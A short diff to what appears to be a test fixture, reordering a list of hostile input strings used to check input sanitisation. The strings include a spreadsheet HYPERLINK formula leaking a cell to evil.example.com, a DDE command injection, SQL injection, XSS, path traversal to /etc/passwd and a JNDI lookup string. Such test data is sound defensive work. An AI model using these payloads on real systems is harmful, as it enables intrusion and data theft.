@@ -79,7 +79,7 @@ JUNK_WORDS = ("good", "asdf", "very nice", "ok thanks", "test 123", "qwerty", "y
 # In an order in which any few neighbours are of different kinds: a small batch has one of each kind.
 MISCHIEF = (
     '=HYPERLINK("https://evil.example.com/?leak="&A1,"click here")',
-    "+cmd|' /C calc'!A0",
+    "'; DROP TABLE leads;--",
     "<script>alert(1)</script>",
     "bell\x07 escape\x1b[31m nul\x00 end",
     "../../../../etc/passwd",
@@ -93,7 +93,7 @@ MISCHIEF = (
     "<b>bold</b> & <a href='https://evil.example.com'>link</a>",
     "right-to-left \u202egnp.exe",
     "file:///etc/passwd",
-    "'; DROP TABLE leads;--",
+    "+cmd|' /C calc'!A0",
     "\r=1+1",
     "${jndi:ldap://evil.example.com/a}",
     "＝1+1",
